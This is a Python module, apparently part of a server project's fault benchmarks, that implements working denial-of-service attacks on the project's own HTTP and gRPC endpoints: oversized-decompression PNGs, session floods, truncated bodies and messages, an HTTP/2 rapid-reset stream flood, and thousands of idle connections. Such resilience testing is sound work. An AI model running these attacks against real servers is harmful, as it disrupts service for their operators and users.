"""Denial-of-service attacks on a server, each from one address and one process.

`python -m overtone.benchmarks.faults.attacks NAME SOURCE HOST GRPC_PORT HTTP_PORT SECONDS` runs one of them. It prints
"begun" when it is under way, and at its end what it has counted, as JSON. A line on standard input ends it earlier.
"""

import asyncio
import contextlib
import json
import os
import struct
import sys
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Protocol

from overtone.benchmarks import http2
from overtone.protos import overtone_pb2 as pb

SESSION = http2.headers("/overtone.v2.Cascade/Session")
# A legal picture just below the default limit of 24 million pixels.
SIDE = 4890
MIB = 1 << 20


@dataclass
class Target:
    """The address of the server, the address that attacks come from, and counts of what happened."""

    source: str
    host: str
    grpc_port: int
    http_port: int
    counted: Counter[str] = field(default_factory=Counter)

    async def http(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection to the HTTP port."""
        return await asyncio.open_connection(self.host, self.http_port, local_addr=(self.source, 0))

    async def grpc(self) -> http2.Connection:
        """A connection to the gRPC port."""
        return await http2.Connection.open(self.host, self.grpc_port, self.source)


class Attack(Protocol):
    """Runs until it is cancelled, and calls `begun` when it is under way."""

    async def __call__(self, target: Target, begun: Callable[[], None]) -> None:
        """Attack."""


async def pictures(target: Target, begun: Callable[[], None], connections: int = 40) -> None:
    """Legal PNGs of 4,890 x 4,890 pixels in 70 kB, posted on 40 connections."""
    body = grey_png(SIDE)
    head = f"POST /v1/classify HTTP/1.1\r\nhost: x\r\ncontent-type: image/png\r\ncontent-length: {len(body)}\r\n\r\n"
    begun()

    async def post() -> None:
        reader, writer = await target.http()
        writer.write(head.encode() + body)
        target.counted[f"status {await _status(reader)}"] += 1
        writer.close()

    await _all(_again(post, target) for _ in range(connections))


async def sessions(target: Target, begun: Callable[[], None], count: int = 4096) -> None:
    """4,096 sessions on 64 connections that say hello and nothing more."""
    hello = http2.message(pb.Upstream(hello=pb.Hello()).SerializeToString())
    each = count // 64
    connections = []
    for _ in range(64):
        connection = await target.grpc()
        for _ in range(each):
            connection.write(http2.frame(http2.DATA, 0, connection.begin(SESSION), hello))
        await connection.drain()
        connections.append(connection)
        target.counted["sessions"] += each
    begun()
    await _until_cancelled(connections, target)


async def bodies(target: Target, begun: Callable[[], None], count: int = 40) -> None:
    """40 bodies of 8 MiB, each one byte short."""
    size = 8 * MIB
    head = (
        f"POST /v1/classify HTTP/1.1\r\nhost: x\r\ncontent-type: image/png\r\ncontent-length: {size}\r\n\r\n"
    )
    body = bytes(size - 1)

    async def post() -> None:
        reader, writer = await target.http()
        writer.write(head.encode() + body)
        await writer.drain()
        target.counted[f"status {await _status(reader)}"] += 1
        writer.close()

    begun()
    await _all(_again(post, target) for _ in range(count))


async def messages(target: Target, begun: Callable[[], None], count: int = 256) -> None:
    """256 gRPC messages of 1 MiB on 32 connections, each one byte short."""
    size = MIB - 64
    data = http2.message(bytes(size - 1), size)

    async def hold() -> None:
        connection = await target.grpc()
        await _all(connection.send(connection.begin(SESSION), data) for _ in range(count // 32))
        target.counted["messages"] += count // 32
        await connection.closed.wait()
        target.counted["connections cut"] += 1
        await connection.close()

    begun()
    await _all(_again(hold, target) for _ in range(32))


async def resets(target: Target, begun: Callable[[], None], connections: int = 4) -> None:
    """Streams that are cancelled as soon as they are begun, on 4 connections, as fast as they go."""
    begun()

    async def reset() -> None:
        connection = await target.grpc()
        while not connection.closed.is_set():
            for _ in range(50):
                connection.write(http2.reset(connection.begin(SESSION)))
            target.counted["streams"] += 50
            await connection.drain()
            await asyncio.sleep(0)
        target.counted["connections cut"] += 1
        await connection.close()

    await _all(_again(reset, target) for _ in range(connections))


async def idle(target: Target, begun: Callable[[], None], count: int = 1100) -> None:
    """1,100 HTTP connections that say nothing, and as many on the port of gRPC; what is closed is opened again."""

    async def wait(port: int) -> None:
        reader, writer = await asyncio.open_connection(target.host, port, local_addr=(target.source, 0))
        target.counted["connections"] += 1
        while await reader.read(1 << 16):
            pass
        target.counted["connections closed"] += 1
        writer.close()

    asyncio.get_running_loop().call_later(1.0, begun)
    await _all(
        _again(wait, target, port) for port in (target.http_port, target.grpc_port) for _ in range(count)
    )


ATTACKS: dict[str, Attack] = {
    each.__name__: each for each in (pictures, sessions, bodies, messages, resets, idle)
}


def grey_png(side: int) -> bytes:
    """A legal PNG in one colour, with three bytes a pixel: about a thousandth of them as a file."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    pressed = zlib.compressobj(9)
    rows = b"".join(pressed.compress(bytes(1 + 3 * side)) for _ in range(side)) + pressed.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


async def _status(reader: asyncio.StreamReader) -> int:
    """The status of a response, which is then read to its end; 0 if there is none."""
    line = await reader.readline()
    if not line:
        return 0
    size = 0
    while (header := await reader.readline()) not in (b"\r\n", b""):
        if header.lower().startswith(b"content-length:"):
            size = int(header.split(b":")[1])
    await reader.readexactly(size)
    return int(line.split()[1])


async def _again(attack: Callable[..., Awaitable[None]], target: Target, *arguments: int) -> None:
    """Repeat an attack for ever; where a connection is refused or breaks, a moment later."""
    while True:
        try:
            await attack(*arguments)
        except (OSError, asyncio.IncompleteReadError):
            target.counted["broken"] += 1
            await asyncio.sleep(0.1)


async def _all(work: Iterable[Awaitable[None]]) -> None:
    await asyncio.gather(*work)


async def _until_cancelled(connections: list[http2.Connection], target: Target) -> None:
    try:
        await asyncio.Event().wait()
    finally:
        target.counted["streams ended by the server"] = sum(len(each.ended) for each in connections)
        target.counted["connections cut"] = sum(each.closed.is_set() for each in connections)


def _give_way() -> None:
    """Run at the lowest priority: on one machine, the attacker would else take processor time from its target."""
    os.nice(19)
    # This process leads a session, and Linux compares the niceness of sessions first.
    with contextlib.suppress(OSError):
        Path("/proc/self/autogroup").write_text("19")


async def _run(name: str, target: Target, seconds: float) -> None:
    def begun() -> None:
        print("begun", flush=True)
        _give_way()

    attack = asyncio.create_task(ATTACKS[name](target, begun))
    asyncio.get_running_loop().add_reader(sys.stdin, attack.cancel)
    await asyncio.wait([attack], timeout=seconds)
    attack.cancel()
    await asyncio.wait([attack], timeout=5)
    print(json.dumps(target.counted), flush=True)


def main() -> None:
    """Run one attack, as the command line says."""
    name, source, host, grpc_port, http_port, seconds = sys.argv[1:]
    with contextlib.suppress(ImportError):
        import resource

        _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(_run(name, Target(source, host, int(grpc_port), int(http_port)), float(seconds)))
    os._exit(0)  # thousands of connections need no farewell


if __name__ == "__main__":
    main()
